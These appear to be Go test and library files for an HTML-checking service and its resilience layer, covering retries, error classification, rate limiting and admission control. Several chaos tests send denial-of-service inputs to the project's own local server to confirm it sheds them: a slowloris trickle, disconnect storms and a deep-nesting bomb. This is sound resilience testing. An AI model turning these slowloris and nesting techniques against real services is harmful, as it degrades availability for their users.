	resp, err := client.Post(base+"/v1/check", "text/html", strings.NewReader("<p>ok</p>"))
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("request after burst: %v / %v", resp, err)
	}
	_ = resp.Body.Close()
}

func TestServeChaosSlowlorisBodyIsCutOff(t *testing.T) {
	base, s, _ := startChaos(t, Config{
		TenantRate:          -1,
		BodyProgressTimeout: 150 * time.Millisecond,
	})
	addr := strings.TrimPrefix(base, "http://")
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /v1/check HTTP/1.1\r\nHost: %s\r\nContent-Length: 100000\r\nContent-Type: text/html\r\n\r\n", addr)
	_, _ = conn.Write([]byte("<p>"))
	// Trickle one byte well past the progress deadline; the server
	// must cut us off rather than hold a worker hostage.
	deadline := time.Now().Add(5 * time.Second)
	_ = conn.SetReadDeadline(deadline)
	status := ""
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		line, rerr := bufio.NewReader(conn).ReadString('\n')
		if rerr == nil {
			status = strings.TrimSpace(line)
		}
	}()
	for i := 0; i < 20; i++ {
		time.Sleep(400 * time.Millisecond)
		if _, werr := conn.Write([]byte("x")); werr != nil {
			break // server already severed the connection
		}
		select {
		case <-readDone:
			i = 20
		default:
		}
	}
	select {
	case <-readDone:
	case <-time.After(6 * time.Second):
		t.Fatal("slowloris connection neither answered nor closed")
	}
	if status != "" && !strings.Contains(status, "408") {
		t.Fatalf("slowloris got %q, want 408 or a severed connection", status)
	}
	// The stalled upload must not have leaked its worker slot.
	waitZeroInflight(t, s)
	resp, err := http.Post(base+"/v1/check", "text/html", strings.NewReader("<p>ok</p>"))
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("request after slowloris: %v / %v", resp, err)
	}
	_ = resp.Body.Close()
}

func TestServeChaosMidRequestDisconnect(t *testing.T) {
	base, s, _ := startChaos(t, Config{TenantRate: -1})
	addr := strings.TrimPrefix(base, "http://")
	for i := 0; i < 40; i++ {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		// Promise a body, deliver half, vanish.
		fmt.Fprintf(conn, "POST /v1/check HTTP/1.1\r\nHost: %s\r\nContent-Length: 5000\r\nContent-Type: text/html\r\n\r\n", addr)
		_, _ = conn.Write([]byte(strings.Repeat("<p>half</p>", 20)))
		_ = conn.Close()
	}
	waitZeroInflight(t, s)
	resp, err := http.Post(base+"/v1/check", "text/html", strings.NewReader("<p>ok</p>"))
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("request after disconnect storm: %v / %v", resp, err)
	}
	_ = resp.Body.Close()
}

func TestServeChaosDeadlineBoundsHostileWork(t *testing.T) {
	// A deadline far smaller than the document's parse cost: the
	// in-parse cancellation must cut the check off and shed 503.
	base, _, _ := startChaos(t, Config{
		TenantRate:     -1,
		RequestTimeout: 1 * time.Millisecond,
		MaxBodyBytes:   8 << 20,
	})
	big := []byte("<!DOCTYPE html><body>" +
		strings.Repeat("<p a=b c=d>token soup</p>", 120000))
	resp, err := http.Post(base+"/v1/check", "text/html", strings.NewReader(string(big)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("status = %d, want 503 (deadline shed)", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Fatal("deadline shed without Retry-After")
	}
}

func TestServeChaosAdversarialNestingConcurrent(t *testing.T) {
	// The invariant under test is the depth cap, not shedding: give the
	// pool enough slots and deadline headroom that none of the 16
	// documents is pool- or deadline-shed under the race detector on a
	// small machine — every response must be the cap's 422.
	base, s, _ := startChaos(t, Config{
		TenantRate:     -1,
		MaxTreeDepth:   128,
		RequestTimeout: 30 * time.Second,
		Admission:      resilience.AdmissionConfig{Workers: 16, Queue: 16, QueueWait: 10 * time.Second},
	})
	deep := strings.Repeat("<div>", 30000)
	var wg sync.WaitGroup
	var bad atomic.Int64
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			resp, err := http.Post(base+"/v1/check", "text/html", strings.NewReader(deep))
			if err != nil {
				bad.Add(1)
				return
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			if resp.StatusCode != http.StatusUnprocessableEntity {
				bad.Add(1)
			}
		}()
	}
	wg.Wait()
	if bad.Load() != 0 {
		t.Fatalf("%d deep documents not answered with 422", bad.Load())
	}
	// Aborted parses recycled cleanly: a normal document still checks.
	resp, err := http.Post(base+"/v1/check", "text/html", strings.NewReader("<p>ok</p>"))
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("request after nesting storm: %v / %v", resp, err)
	}
	_ = resp.Body.Close()
	if s.InFlight() != 0 {
		t.Fatalf("in-flight after storm = %d", s.InFlight())
	}
}

func TestServeChaosGracefulDrainFinishesInFlight(t *testing.T) {
	base, _, shutdown := startChaos(t, Config{TenantRate: -1})
	addr := strings.TrimPrefix(base, "http://")
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	body := "<p id=a id=b>drain me</p>"
	fmt.Fprintf(conn, "POST /v1/check HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nContent-Type: text/html\r\n\r\n", addr, len(body))
	_, _ = conn.Write([]byte(body[:5]))
	time.Sleep(150 * time.Millisecond) // let the handler block in the body read

	drainErr := make(chan error, 1)
	go func() { drainErr <- shutdown() }()
	time.Sleep(150 * time.Millisecond) // drain begins with us in flight

	if _, err := conn.Write([]byte(body[5:])); err != nil {
		t.Fatalf("drain severed an in-flight request's body: %v", err)
	}
	_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		t.Fatalf("no response for the in-flight request: %v", err)
	}
	if !strings.Contains(line, "200") {
		t.Fatalf("in-flight request got %q during drain, want 200", strings.TrimSpace(line))
	}
	if err := <-drainErr; err != nil {
		t.Fatalf("drain returned %v", err)
	}
	// The listener is gone: new connections are refused.
	if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
		_ = c.Close()
		t.Fatal("listener still accepting after drain completed")
	}
}

// TestServeChaosLeakSweep drives ten rounds of traffic and checks that
// goroutines and heap stay flat — the constant-memory claim, end to
// end through the HTTP layer.
func TestServeChaosLeakSweep(t *testing.T) {
	if testing.Short() {
		t.Skip("leak sweep is seconds-long")
	}
	base, s, _ := startChaos(t, Config{TenantRate: -1})
	client := &http.Client{}
	// ~60 KiB of markup: heavy enough to exercise the pooled buffers
	// and parser, light enough for 600+ serial round trips.
	sweepDoc := slowDoc[:60<<10]
	round := func(n int) {
		for i := 0; i < n; i++ {
			body := sweepDoc
			if i%3 == 0 {
				body = []byte(violatingHTML)
			}
			resp, err := client.Post(base+"/v1/check", "text/html", strings.NewReader(string(body)))
			if err != nil {
				t.Fatal(err)
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
		}
	}
	settle := func() (goroutines int, heap uint64) {
		runtime.GC()
		time.Sleep(50 * time.Millisecond)
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		return runtime.NumGoroutine(), ms.HeapAlloc
	}
	round(30) // warm pools and conn cache before baselining
	g0, h0 := settle()
	for r := 0; r < 10; r++ {
		round(60)
	}
	g1, h1 := settle()
	if g1 > g0+8 {
		t.Fatalf("goroutines grew across sweep: %d -> %d", g0, g1)
	}
	const heapSlack = 16 << 20
	if h1 > h0+heapSlack {
		t.Fatalf("heap grew across sweep: %d -> %d bytes", h0, h1)
	}
	if s.InFlight() != 0 {
		t.Fatalf("in-flight after sweep = %d", s.InFlight())
	}
}

// TestServeChaosShedNeverCorruptsPool interleaves admissible, shed,
// oversized, and malformed requests against a one-worker pool and
// proves the accounting lands back at zero.
func TestServeChaosShedNeverCorruptsPool(t *testing.T) {
	base, s, _ := startChaos(t, Config{
		TenantRate:   -1,
		MaxBodyBytes: 32 << 10,
		Admission:    resilience.AdmissionConfig{Workers: 1, Queue: resilience.NoQueue, QueueWait: 50 * time.Millisecond},
	})
	client := &http.Client{}
	bodies := []string{
		"<p>fine</p>",
		string(slowDoc[:20<<10]),
		strings.Repeat("y", 64<<10), // oversized -> 413
		"<p>\xff\xfebad</p>",        // not UTF-8 -> 415
	}
	var wg sync.WaitGroup
	for i := 0; i < 24; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < 10; j++ {
				resp, err := client.Post(base+"/v1/check", "text/html", strings.NewReader(bodies[(i+j)%len(bodies)]))
				if err != nil {
					continue
				}
				_, _ = io.Copy(io.Discard, resp.Body)
				_ = resp.Body.Close()
			}
		}(i)
	}
	wg.Wait()
	waitZeroInflight(t, s)
	if q := s.pool.Queued(); q != 0 {
		t.Fatalf("queued after storm = %d, want 0", q)
	}
	resp, err := client.Post(base+"/v1/check", "text/html", strings.NewReader("<p>ok</p>"))
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("request after storm: %v / %v", resp, err)
	}
	_ = resp.Body.Close()
}

// waitZeroInflight polls briefly: the server counts a request done a
// hair after the response bytes leave, so an immediate read races.
func waitZeroInflight(t *testing.T, s *Server) {
	t.Helper()
	for i := 0; i < 100; i++ {
		if s.InFlight() == 0 {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("in-flight stuck at %d", s.InFlight())
}
