package resilience

import (
	"context"
	"errors"
	"testing"
	"time"
)

func TestDoRetriesUntilSuccess(t *testing.T) {
	calls := 0
	err := Policy{MaxAttempts: 5}.Do(context.Background(), func() error {
		calls++
		if calls < 3 {
			return errors.New("transient")
		}
		return nil
	})
	if err != nil || calls != 3 {
		t.Fatalf("err=%v calls=%d, want success on attempt 3", err, calls)
	}
}

func TestDoStopsOnPermanent(t *testing.T) {
	calls := 0
	boom := errors.New("gone")
	err := Policy{MaxAttempts: 5}.Do(context.Background(), func() error {
		calls++
		return Permanent(boom)
	})
	if !errors.Is(err, boom) || calls != 1 {
		t.Fatalf("err=%v calls=%d, want 1 attempt surfacing the permanent error", err, calls)
	}
}

func TestDoExhaustsAttempts(t *testing.T) {
	calls := 0
	boom := errors.New("flaky")
	err := Policy{MaxAttempts: 3}.Do(context.Background(), func() error {
		calls++
		return boom
	})
	if !errors.Is(err, boom) || calls != 3 {
		t.Fatalf("err=%v calls=%d, want the last error after 3 attempts", err, calls)
	}
}

func TestDoZeroValuePolicyIsSingleAttempt(t *testing.T) {
	calls := 0
	_ = Policy{}.Do(context.Background(), func() error { calls++; return errors.New("x") })
	if calls != 1 {
		t.Fatalf("zero policy made %d attempts, want 1", calls)
	}
}

func TestDoHonorsContextDuringBackoff(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	calls := 0
	boom := errors.New("flaky")
	start := time.Now()
	err := Policy{MaxAttempts: 10, BaseDelay: time.Hour}.Do(ctx, func() error {
		calls++
		cancel() // cancel while the policy would sleep an hour
		return boom
	})
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Fatalf("backoff ignored cancellation (%v)", elapsed)
	}
	if calls != 1 {
		t.Fatalf("calls=%d, want 1", calls)
	}
	// Both causes must be matchable.
	if !errors.Is(err, boom) || !errors.Is(err, context.Canceled) {
		t.Fatalf("err=%v, want both the attempt error and context.Canceled", err)
	}
}

func TestDoPreCanceledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	calls := 0
	err := Policy{MaxAttempts: 3}.Do(ctx, func() error { calls++; return nil })
	if calls != 0 || !errors.Is(err, context.Canceled) {
		t.Fatalf("calls=%d err=%v, want no attempts on a dead context", calls, err)
	}
}

func TestDelayGrowthAndCap(t *testing.T) {
	p := Policy{BaseDelay: 10 * time.Millisecond, MaxDelay: 100 * time.Millisecond}
	want := []time.Duration{10, 20, 40, 80, 100, 100} // ms; doubled then capped
	for i, w := range want {
		if got := p.Delay(i); got != w*time.Millisecond {
			t.Errorf("Delay(%d) = %v, want %v", i, got, w*time.Millisecond)
		}
	}
	if (Policy{}).Delay(3) != 0 {
		t.Error("zero BaseDelay must not sleep")
	}
}

func TestDelayJitterBounds(t *testing.T) {
	for _, r := range []float64{0, 0.25, 0.5, 0.999} {
		r := r
		p := Policy{BaseDelay: 100 * time.Millisecond, Jitter: 0.5, Rand: func() float64 { return r }}
		d := p.Delay(0)
		lo, hi := 50*time.Millisecond, 150*time.Millisecond
		if d < lo || d > hi {
			t.Errorf("rand=%.3f: jittered delay %v outside [%v,%v]", r, d, lo, hi)
		}
	}
}

func TestOnRetryObservesEveryReattempt(t *testing.T) {
	var attempts []int
	p := Policy{MaxAttempts: 4, OnRetry: func(attempt int, _ time.Duration, _ error) {
		attempts = append(attempts, attempt)
	}}
	_ = p.Do(context.Background(), func() error { return errors.New("x") })
	if len(attempts) != 3 || attempts[0] != 1 || attempts[2] != 3 {
		t.Fatalf("OnRetry saw %v, want [1 2 3]", attempts)
	}
}

func TestDoGenericReturnsValue(t *testing.T) {
	calls := 0
	v, err := Do(context.Background(), Policy{MaxAttempts: 3}, func() (string, error) {
		calls++
		if calls < 2 {
			return "", errors.New("flaky")
		}
		return "ok", nil
	})
	if err != nil || v != "ok" {
		t.Fatalf("v=%q err=%v", v, err)
	}
}
