package resilience

import (
	"time"

	"github.com/hvscan/hvscan/internal/obs"
)

// Metrics is the resilience layer's instrumentation on an obs.Registry:
//
//	resilience_errors_total{class="retryable"|"permanent"|"fatal"}
//	resilience_retries_total
//	resilience_backoff_seconds   (histogram of backoff sleeps)
//	resilience_breaker_state     (0 closed, 1 half-open, 2 open)
//	resilience_breaker_trips_total
//	resilience_breaker_shed_total
//
// Wire it into a Policy and Breaker with PolicyHook / BreakerHook, or
// drive the counters directly.
type Metrics struct {
	Errors         map[Class]*obs.Counter
	Retries        *obs.Counter
	BackoffSeconds *obs.Histogram
	BreakerState   *obs.Gauge
	BreakerTrips   *obs.Counter
	BreakerShed    *obs.Counter
}

// NewMetrics registers the resilience series on reg. Registering twice
// on the same registry returns handles sharing the underlying series.
func NewMetrics(reg *obs.Registry) *Metrics {
	m := &Metrics{
		Errors:         make(map[Class]*obs.Counter, len(Classes)),
		Retries:        reg.Counter("resilience_retries_total"),
		BackoffSeconds: reg.Histogram("resilience_backoff_seconds", obs.DurationBuckets),
		BreakerState:   reg.Gauge("resilience_breaker_state"),
		BreakerTrips:   reg.Counter("resilience_breaker_trips_total"),
		BreakerShed:    reg.Counter("resilience_breaker_shed_total"),
	}
	names := make([]string, len(Classes))
	for i, c := range Classes {
		names[i] = c.String()
	}
	byName := reg.CounterVec("resilience_errors_total", "class", names...)
	for _, c := range Classes {
		m.Errors[c] = byName[c.String()]
	}
	return m
}

// ObserveError counts one classified failure.
func (m *Metrics) ObserveError(c Class) { m.Errors[c].Inc() }

// PolicyHook returns an OnRetry callback that counts re-attempts and
// backoff time. Compose it with an existing hook by calling both.
func (m *Metrics) PolicyHook() func(attempt int, sleep time.Duration, err error) {
	return func(_ int, sleep time.Duration, _ error) {
		m.Retries.Inc()
		m.BackoffSeconds.Observe(sleep.Seconds())
	}
}

// BreakerHook returns an OnStateChange callback that tracks the breaker
// state gauge and counts trips (transitions into the open state).
func (m *Metrics) BreakerHook() func(from, to BreakerState) {
	return func(_, to BreakerState) {
		m.BreakerState.Set(int64(to))
		if to == StateOpen {
			m.BreakerTrips.Inc()
		}
	}
}
