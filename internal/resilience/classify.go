// Package resilience provides the fault-handling primitives of the scan
// pipeline: an error classifier (retryable / permanent / fatal), a retry
// policy with exponential backoff, jitter, and context-aware sleeping,
// and a circuit breaker that sheds load from a failing backend. The
// primitives are generic — nothing here knows about Common Crawl or the
// crawler — and the pipeline composes them around every archive call.
//
// The classification model (DESIGN.md "Failure model"): a multi-day
// crawl against a remote archive sees three kinds of trouble.
// Retryable faults (timeouts, 5xx, connection resets, truncated reads)
// are the archive having a bad moment — back off and try again.
// Permanent faults (404, robots exclusion, malformed capture) will fail
// identically on every attempt — skip the work unit and move on.
// Fatal faults (bad configuration, impossible state) mean the run
// itself is wrong — stop everything. Unknown errors classify as
// retryable: on a long network crawl, optimism is cheaper than losing a
// domain to a transient blip we failed to enumerate.
package resilience

import (
	"context"
	"errors"
)

// Class is the retry-relevant category of an error.
type Class int

const (
	// ClassRetryable errors are transient: the same call may succeed if
	// repeated after a backoff (timeouts, 5xx, connection resets).
	ClassRetryable Class = iota
	// ClassPermanent errors will recur on every attempt (404, gone,
	// malformed record): skip the work unit, keep the run going.
	ClassPermanent
	// ClassFatal errors invalidate the whole run (bad configuration,
	// impossible state): stop everything.
	ClassFatal
)

// Classes lists every class, in severity order, for metric registration
// and exhaustive tests.
var Classes = []Class{ClassRetryable, ClassPermanent, ClassFatal}

// String returns the class label used in metrics and stats.
func (c Class) String() string {
	switch c {
	case ClassRetryable:
		return "retryable"
	case ClassPermanent:
		return "permanent"
	case ClassFatal:
		return "fatal"
	}
	return "unknown"
}

// classified wraps an error with an explicit class; Classify honours it
// above every heuristic.
type classified struct {
	err   error
	class Class
}

func (e *classified) Error() string { return e.err.Error() }
func (e *classified) Unwrap() error { return e.err }

// mark wraps err with an explicit class; nil stays nil.
func mark(err error, c Class) error {
	if err == nil {
		return nil
	}
	return &classified{err: err, class: c}
}

// Retryable marks err as explicitly retryable.
func Retryable(err error) error { return mark(err, ClassRetryable) }

// Permanent marks err as permanent: retrying cannot help.
func Permanent(err error) error { return mark(err, ClassPermanent) }

// Fatal marks err as fatal: the run must stop.
func Fatal(err error) error { return mark(err, ClassFatal) }

// StatusCoder is implemented by transport errors that carry an HTTP
// status code (e.g. commoncrawl.HTTPError); Classify maps 5xx and
// throttling statuses to retryable and other 4xx to permanent.
type StatusCoder interface{ HTTPStatus() int }

// Classify determines the Class of err. Explicit marks (Retryable,
// Permanent, Fatal) win; then HTTP status codes, context and network
// errors; anything unrecognized is ClassRetryable — see the package
// comment for why the default is optimistic. Classify(nil) returns
// ClassRetryable and never panics, whatever the error wraps.
func Classify(err error) Class {
	if err == nil {
		return ClassRetryable
	}
	var cl *classified
	if errors.As(err, &cl) {
		return cl.class
	}
	var sc StatusCoder
	if errors.As(err, &sc) {
		return classifyStatus(sc.HTTPStatus())
	}
	// A canceled context is the caller abandoning the call, not the
	// backend failing: retrying cannot help. Everything else — deadline
	// timeouts, net.Error timeouts, connection resets, truncated reads,
	// and errors we cannot recognize — falls through to the retryable
	// default.
	if errors.Is(err, context.Canceled) {
		return ClassPermanent
	}
	return ClassRetryable
}

// classifyStatus maps an HTTP status to a class: server-side and
// throttling failures retry, client-side failures are permanent.
func classifyStatus(code int) Class {
	switch {
	case code >= 500:
		return ClassRetryable
	case code == 408 || code == 425 || code == 429:
		return ClassRetryable // timeout / too-early / throttled
	case code >= 400:
		return ClassPermanent
	}
	return ClassRetryable
}
