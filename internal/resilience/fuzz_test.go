package resilience

import (
	"context"
	"errors"
	"fmt"
	"testing"
)

// FuzzClassify throws arbitrarily built and wrapped errors at the
// classifier: whatever the shape, it must return a valid class and
// never panic. The seed corpus exercises every construction path the
// fuzzer mutates over.
func FuzzClassify(f *testing.F) {
	f.Add("boom", 0, 500, uint8(0))
	f.Add("", 1, 404, uint8(3))
	f.Add("timeout", 2, 0, uint8(1))
	f.Add("ctx", 3, 429, uint8(2))
	f.Add("deep", 4, 99, uint8(7))
	f.Fuzz(func(t *testing.T, msg string, kind int, status int, wraps uint8) {
		var err error
		switch kind % 6 {
		case 0:
			err = errors.New(msg)
		case 1:
			err = &statusErr{code: status}
		case 2:
			err = context.Canceled
		case 3:
			err = context.DeadlineExceeded
		case 4:
			err = nil
		case 5:
			err = errors.Join(errors.New(msg), &statusErr{code: status})
		}
		// Layer marks and wrappers on top, driven by the wrap bits.
		for i := 0; i < int(wraps%8); i++ {
			switch (int(wraps) + i) % 4 {
			case 0:
				err = Retryable(err)
			case 1:
				err = Permanent(err)
			case 2:
				err = Fatal(err)
			case 3:
				if err != nil {
					err = fmt.Errorf("wrap %d: %w", i, err)
				}
			}
		}
		got := Classify(err)
		if got != ClassRetryable && got != ClassPermanent && got != ClassFatal {
			t.Fatalf("Classify returned invalid class %d for %v", got, err)
		}
		if err == nil && got != ClassRetryable {
			t.Fatalf("Classify(nil) = %v, want retryable", got)
		}
	})
}
