package resilience

import (
	"context"
	"errors"
	"math"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// newFakeClock returns a fakeClock (shared with breaker_test.go) at a
// fixed epoch for deterministic refill math.
func newFakeClock() *fakeClock {
	return &fakeClock{t: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
}

func TestTokenBucketRefillMath(t *testing.T) {
	clk := newFakeClock()
	b := NewTokenBucket(100, 10).WithClock(clk.now)

	// A full bucket admits exactly its burst with no time passing.
	for i := 0; i < 10; i++ {
		if !b.Allow() {
			t.Fatalf("burst request %d refused on a full bucket", i)
		}
	}
	if b.Allow() {
		t.Fatal("request 11 admitted past the burst capacity")
	}

	// 50ms at 100 tokens/s refills exactly 5 tokens.
	clk.advance(50 * time.Millisecond)
	if got := b.Tokens(); math.Abs(got-5) > 1e-9 {
		t.Fatalf("after 50ms at 100/s: tokens = %v, want 5", got)
	}
	for i := 0; i < 5; i++ {
		if !b.Allow() {
			t.Fatalf("refilled token %d refused", i)
		}
	}
	if b.Allow() {
		t.Fatal("admitted more than the refilled 5 tokens")
	}

	// The bucket never overfills past burst, however long it idles.
	clk.advance(time.Hour)
	if got := b.Tokens(); got != 10 {
		t.Fatalf("after an idle hour: tokens = %v, want burst cap 10", got)
	}
}

func TestTokenBucketRetryAfter(t *testing.T) {
	clk := newFakeClock()
	b := NewTokenBucket(10, 1).WithClock(clk.now)
	if !b.Allow() {
		t.Fatal("full bucket refused")
	}
	// Empty at 10/s: one token is 100ms away.
	if got := b.RetryAfter(); got != 100*time.Millisecond {
		t.Fatalf("RetryAfter = %v, want 100ms", got)
	}
	clk.advance(40 * time.Millisecond)
	if got := b.RetryAfter(); got != 60*time.Millisecond {
		t.Fatalf("RetryAfter after 40ms = %v, want 60ms", got)
	}
	clk.advance(60 * time.Millisecond)
	if got := b.RetryAfter(); got != 0 {
		t.Fatalf("RetryAfter with a token available = %v, want 0", got)
	}
}

func TestTokenBucketAllowNAtomicity(t *testing.T) {
	clk := newFakeClock()
	b := NewTokenBucket(1, 10).WithClock(clk.now)
	if b.AllowN(11) {
		t.Fatal("AllowN above burst admitted")
	}
	if got := b.Tokens(); got != 10 {
		t.Fatalf("refused AllowN consumed a partial balance: tokens = %v, want 10", got)
	}
	if !b.AllowN(10) {
		t.Fatal("AllowN at exact balance refused")
	}
}

// TestBucketsFairness: one tenant exhausting its bucket must not eat
// into another tenant's budget.
func TestBucketsFairness(t *testing.T) {
	clk := newFakeClock()
	s := NewBuckets(1, 5, 0).WithClock(clk.now)

	for i := 0; i < 5; i++ {
		if _, err := s.Allow("noisy"); err != nil {
			t.Fatalf("noisy request %d refused inside burst", i)
		}
	}
	if _, err := s.Allow("noisy"); !errors.Is(err, ErrThrottled) {
		t.Fatalf("noisy tenant past burst: err = %v, want ErrThrottled", err)
	}
	// The quiet tenant still has its full, independent burst.
	for i := 0; i < 5; i++ {
		if _, err := s.Allow("quiet"); err != nil {
			t.Fatalf("quiet tenant starved by noisy one at request %d: %v", i, err)
		}
	}
	retry, err := s.Allow("quiet")
	if !errors.Is(err, ErrThrottled) {
		t.Fatalf("quiet tenant past burst: err = %v, want ErrThrottled", err)
	}
	if retry != time.Second {
		t.Fatalf("Retry-After at 1 token/s = %v, want 1s", retry)
	}
}

// TestBucketsConcurrentSharedRate: hammering one tenant from many
// goroutines admits exactly burst requests — the balance never goes
// negative and never double-spends (run with -race).
func TestBucketsConcurrentSharedRate(t *testing.T) {
	clk := newFakeClock()
	s := NewBuckets(1, 50, 0).WithClock(clk.now)
	var admitted atomic.Int64
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				if _, err := s.Allow("shared"); err == nil {
					admitted.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	if got := admitted.Load(); got != 50 {
		t.Fatalf("admitted %d of 800 concurrent requests, want exactly burst=50", got)
	}
}

func TestBucketsEvictionCap(t *testing.T) {
	clk := newFakeClock()
	s := NewBuckets(100, 2, 4).WithClock(clk.now)
	// Four active tenants, each with a partial balance.
	for _, tenant := range []string{"a", "b", "c", "d"} {
		if _, err := s.Allow(tenant); err != nil {
			t.Fatalf("tenant %s refused: %v", tenant, err)
		}
	}
	if got := s.Len(); got != 4 {
		t.Fatalf("tracked tenants = %d, want 4", got)
	}
	// A fifth tenant forces an eviction; the map never exceeds the cap.
	if _, err := s.Allow("e"); err != nil {
		t.Fatalf("tenant e refused: %v", err)
	}
	if got := s.Len(); got > 4 {
		t.Fatalf("tracked tenants = %d, want <= cap 4", got)
	}
	// Once everyone is idle-refilled, new tenants sweep the stale ones.
	clk.advance(time.Minute)
	s.Get("f")
	if got := s.Len(); got > 4 {
		t.Fatalf("tracked tenants after idle sweep = %d, want <= cap 4", got)
	}
}

func TestAdmissionPoolShedsBeyondQueue(t *testing.T) {
	p := NewAdmissionPool(AdmissionConfig{Workers: 2, Queue: NoQueue})
	ctx := context.Background()

	r1, err := p.Acquire(ctx)
	if err != nil {
		t.Fatalf("first acquire: %v", err)
	}
	r2, err := p.Acquire(ctx)
	if err != nil {
		t.Fatalf("second acquire: %v", err)
	}
	if _, err := p.Acquire(ctx); !errors.Is(err, ErrOverloaded) {
		t.Fatalf("third acquire with no queue: err = %v, want ErrOverloaded", err)
	}
	if got := p.InFlight(); got != 2 {
		t.Fatalf("InFlight = %d, want 2", got)
	}
	r1()
	r3, err := p.Acquire(ctx)
	if err != nil {
		t.Fatalf("acquire after release: %v", err)
	}
	r2()
	r3()
	if got := p.InFlight(); got != 0 {
		t.Fatalf("InFlight after all releases = %d, want 0", got)
	}
}

func TestAdmissionPoolQueueWaitTimeout(t *testing.T) {
	p := NewAdmissionPool(AdmissionConfig{Workers: 1, Queue: 1, QueueWait: 20 * time.Millisecond})
	release, err := p.Acquire(context.Background())
	if err != nil {
		t.Fatalf("first acquire: %v", err)
	}
	defer release()

	start := time.Now()
	if _, err := p.Acquire(context.Background()); !errors.Is(err, ErrOverloaded) {
		t.Fatalf("queued acquire: err = %v, want ErrOverloaded after QueueWait", err)
	}
	if waited := time.Since(start); waited < 15*time.Millisecond {
		t.Fatalf("queued acquire shed after %v, want >= ~QueueWait", waited)
	}
}

func TestAdmissionPoolQueueCancellation(t *testing.T) {
	p := NewAdmissionPool(AdmissionConfig{Workers: 1, Queue: 1, QueueWait: time.Minute})
	release, err := p.Acquire(context.Background())
	if err != nil {
		t.Fatalf("first acquire: %v", err)
	}
	defer release()

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := p.Acquire(ctx)
		done <- err
	}()
	// Give the goroutine time to enter the queue, then abandon it.
	for i := 0; i < 1000 && p.Queued() == 0; i++ {
		time.Sleep(100 * time.Microsecond)
	}
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("canceled queue wait: err = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("canceled queue waiter never returned")
	}
	if got := p.Queued(); got != 0 {
		t.Fatalf("queue slot leaked by canceled waiter: Queued = %d", got)
	}
}

// TestAdmissionPoolNeverExceedsBounds hammers the pool from many
// goroutines and asserts the concurrency invariant with atomics (-race
// covers the bookkeeping).
func TestAdmissionPoolNeverExceedsBounds(t *testing.T) {
	const workers = 4
	p := NewAdmissionPool(AdmissionConfig{Workers: workers, Queue: 8, QueueWait: 5 * time.Millisecond})
	var inflight, peak atomic.Int64
	var shed atomic.Int64
	var wg sync.WaitGroup
	for g := 0; g < 32; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				release, err := p.Acquire(context.Background())
				if err != nil {
					shed.Add(1)
					continue
				}
				n := inflight.Add(1)
				for {
					old := peak.Load()
					if n <= old || peak.CompareAndSwap(old, n) {
						break
					}
				}
				inflight.Add(-1)
				release()
			}
		}()
	}
	wg.Wait()
	if got := peak.Load(); got > workers {
		t.Fatalf("observed %d concurrent admissions, want <= %d", got, workers)
	}
	if p.InFlight() != 0 || p.Queued() != 0 {
		t.Fatalf("pool not drained: inflight=%d queued=%d", p.InFlight(), p.Queued())
	}
	t.Logf("shed %d of 1600 under deliberate overload", shed.Load())
}

// TestAdmissionPoolDoubleReleaseHarmless: a defensive double release
// must not free someone else's slot.
func TestAdmissionPoolDoubleReleaseHarmless(t *testing.T) {
	p := NewAdmissionPool(AdmissionConfig{Workers: 1, Queue: NoQueue})
	release, err := p.Acquire(context.Background())
	if err != nil {
		t.Fatalf("acquire: %v", err)
	}
	release()
	release() // second call must be a no-op
	if got := p.InFlight(); got != 0 {
		t.Fatalf("InFlight after double release = %d, want 0", got)
	}
	// The pool still admits exactly one.
	r1, err := p.TryAcquire()
	if err != nil {
		t.Fatalf("acquire after double release: %v", err)
	}
	defer r1()
	if _, err := p.TryAcquire(); !errors.Is(err, ErrOverloaded) {
		t.Fatal("double release minted an extra worker slot")
	}
}

func TestShedErrorsClassifyRetryable(t *testing.T) {
	for _, err := range []error{ErrThrottled, ErrOverloaded} {
		if got := Classify(err); got != ClassRetryable {
			t.Errorf("Classify(%v) = %v, want retryable", err, got)
		}
	}
}
