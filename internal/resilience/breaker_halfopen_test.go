package resilience

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// Half-open behavior under concurrent probes (run with -race): the
